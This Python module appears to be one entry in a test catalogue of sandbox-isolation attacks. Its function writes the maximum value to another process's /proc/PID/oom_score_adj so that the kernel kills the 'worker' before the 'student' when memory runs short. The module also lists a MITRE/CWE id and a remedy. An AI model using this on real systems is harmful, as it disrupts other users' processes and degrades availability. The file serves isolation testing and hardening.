# SPDX-License-Identifier: MIT
"""Goal:  when memory is short, the worker dies and the student stays.
Means: /proc/PID/oom_score_adj. Its owner may raise it as high as it goes, and for an ordinary
       process the owner is the user: no call but open and write.
"""

from attack import DONE, attempting, denied

FIRST = 1000  # the most there is: this one before all others


def run(brief):
    attempting()
    try:
        with open(f"/proc/{brief.worker}/oom_score_adj", "w", encoding="ascii") as file:
            file.write(str(FIRST))
    except OSError as why:
        return denied("/proc/PID/oom_score_adj", why)
    return DONE


ATTACK = {
    "effect": "the kernel ends the worker first when memory is short",
    "means": "writing to /proc/PID/oom_score_adj",
    "oracle": "settings",
    "attack_id": "T1499.004, CWE-668",
    "remedy": "a worker that is not dumpable: root owns its files then; Landlock without /proc",
    "refs": ["proc_pid_oom_score_adj(5)"],
    "run": run,
}
